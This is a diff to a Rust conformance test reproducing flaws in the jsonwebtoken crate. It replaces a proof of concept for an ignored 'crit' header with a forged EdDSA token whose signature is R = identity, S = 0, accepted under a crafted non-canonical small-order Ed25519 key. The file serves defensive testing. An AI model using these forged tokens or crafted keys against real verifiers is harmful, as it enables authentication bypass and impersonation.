@@ -1,21 +1,25 @@
-//! Reproduction: `jsonwebtoken` 11.1.0 (feature `rust_crypto`) accepts a token whose `crit`
-//! header lists an extension it does not understand.
+//! Reproduction: `jsonwebtoken` 11.1.0 (feature `rust_crypto`) accepts, under a key set holding
+//! a non-canonical small-order Ed25519 public key, an EdDSA token whose signature is R =
+//! identity, S = 0: a signature anyone can make for any payload.
 //!
-//! RFC 7515 §4.1.11 (`RFC7515-4.1.11-crit`): "If any of the listed extension Header Parameters
-//! are not understood and supported by the recipient, then the JWS is invalid. … This Header
-//! Parameter MUST be understood and processed by implementations." (the attack pattern of
-//! CVE-2026-32597). The token below is signed by the pinned key and its header carries
-//! `"crit":["http://example.com/ext"]` with that extension present; the library ignores `crit`,
-//! validates the token and returns its claims.
+//! RFC 7515 §5.2 step 8 (`RFC7515-5.2-signature`) and RFC 8037 §3.1.2 (`RFC8037-3.1.2-verify`):
+//! the signature must be validated with the key (RFC 8032 §5.1.7 decodes `A` and refuses a
+//! non-canonical encoding); RFC 9068 §4 (`RFC9068-4-signature`). The key's `x` is the identity
+//! point with the sign bit set (x = 0, x_0 = 1), an encoding RFC 8032 §5.1.3 refuses. The
+//! library decodes it with `ed25519_dalek::VerifyingKey::from_bytes` and checks with
+//! `VerifyingKey::verify` (not `verify_strict`; `src/crypto/rust_crypto/eddsa.rs`), and
+//! `Validation` has no setting that refuses small-order or non-canonical keys: the forged
+//! token verifies and its claims come back.
 //!
-//! Reproduces: header/crit-unknown-extension (policy-bypass)
+//! Reproduces: eddsa/key-non-canonical-identity-sign-bit (forgery)
 //!
 //! Configured as the conformance adapter (`src/adapters/jsonwebtoken.rs`): the JWK Set parsed
-//! by the library (`JwkSet`), the key chosen with `JwkSet::find(kid)` and converted with
-//! `DecodingKey::from_jwk`; `Validation` with algorithms [ES256], the issuer, the audience,
-//! leeway 0, `exp` and `nbf` validated, `exp`/`iss`/`aud`/`sub` required. The vector's `now`
-//! (1700000000) cannot be given: the library reads the system clock, and the token's `exp`
-//! (4102444800, year 2100) is valid under either.
+//! by the library (`JwkSet`), every key converted with `DecodingKey::from_jwk`, the token's key
+//! chosen with `JwkSet::find(kid)`; `Validation` with algorithms [EdDSA] (the profile's of the
+//! key's family), the issuer, the audience, leeway 0, `exp` and `nbf` validated,
+//! `exp`/`iss`/`aud`/`sub` required. The vector's `now` (1700000000) cannot be given: the
+//! library reads the system clock, and the token's `exp` (4102444800, year 2100) is valid under
+//! either.
 //!
 //! Run: `cargo test -p conformance --test repro_jsonwebtoken` (add `-- --nocapture` to see the
 //! REPRODUCED line).
@@ -25,12 +29,12 @@ use jsonwebtoken::jwk::JwkSet;
 use jsonwebtoken::{Algorithm, DecodingKey, Validation, decode, decode_header};
 use serde_json::{Map, Value};
 
-const VECTOR: &str = "header/crit-unknown-extension";
+const VECTOR: &str = "eddsa/key-non-canonical-identity-sign-bit";
 const ISSUER: &str = "https://issuer.example";
 const AUDIENCE: &str = "https://api.example";
-const JWKS: &str = r#"{"keys":[{"alg":"ES256","crv":"P-256","kid":"primary","kty":"EC","use":"sig","x":"Og9O0oqYw6X3WZLhErumXMqF78CgL9XjmicCJocZZuE","y":"opzBMqY9ArX-OUzNW0byqx80JQiwyIPRTydjBdHDLEI"}]}"#;
-// Header: {"alg":"ES256","crit":["http://example.com/ext"],"http://example.com/ext":true,"kid":"primary","typ":"at+jwt"}
-const TOKEN: &str = "eyJhbGciOiJFUzI1NiIsImNyaXQiOlsiaHR0cDovL2V4YW1wbGUuY29tL2V4dCJdLCJodHRwOi8vZXhhbXBsZS5jb20vZXh0Ijp0cnVlLCJraWQiOiJwcmltYXJ5IiwidHlwIjoiYXQrand0In0.eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZQN1E4UjlTMFQxVjIifQ.oYwG_a_DaEDlfjUVQm9XZqbCEiZjwR9Naj78PmgL1Okhf0UX3flJwGHQb4EnLIRilKJ6HpzMycALTB-8Xj6Kwg";
+const JWKS: &str = r#"{"keys":[{"alg":"EdDSA","crv":"Ed25519","kid":"ed25519","kty":"OKP","use":"sig","x":"AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAIA"}]}"#;
+// Header: {"alg":"EdDSA","kid":"ed25519","typ":"at+jwt"}; signature: R = identity (01 00…00), S = 0.
+const TOKEN: &str = "eyJhbGciOiJFZERTQSIsImtpZCI6ImVkMjU1MTkiLCJ0eXAiOiJhdCtqd3QifQ.eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZQN1E4UjlTMFQxVjIifQ.AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
 
 fn not_reproduced(what: impl std::fmt::Display) -> ! {
     panic!("NOT REPRODUCED {VECTOR}: {what}")
@@ -40,8 +44,12 @@ fn not_reproduced(what: impl std::fmt::Display) -> ! {
 fn reproduces() {
     let set: JwkSet =
         serde_json::from_str(JWKS).unwrap_or_else(|e| not_reproduced(format!("JwkSet: {e}")));
-    let mut validation = Validation::new(Algorithm::ES256);
-    validation.algorithms = vec![Algorithm::ES256];
+    for jwk in &set.keys {
+        DecodingKey::from_jwk(jwk)
+            .unwrap_or_else(|e| not_reproduced(format!("DecodingKey::from_jwk: {e}")));
+    }
+    let mut validation = Validation::new(Algorithm::EdDSA);
+    validation.algorithms = vec![Algorithm::EdDSA];
     validation.leeway = 0;
     validation.validate_exp = true;
     validation.validate_nbf = true;
@@ -63,8 +71,9 @@ fn reproduces() {
 
     match decode::<Map<String, Value>>(TOKEN, &key, &validation) {
         Ok(data) => println!(
-            "REPRODUCED {VECTOR}: jsonwebtoken accepted a token with crit [\"http://example.com/ext\"] \
-             (an extension it does not understand) and returned its claims (sub {})",
+            "REPRODUCED {VECTOR}: jsonwebtoken accepted an EdDSA token signed R = identity, \
+             S = 0 under a non-canonical small-order key (x = 0 with the sign bit) and returned \
+             its claims (sub {})",
             data.claims.get("sub").unwrap_or(&Value::Null)
         ),
         Err(e) => not_reproduced(format!("jsonwebtoken rejected the token: {e}")),
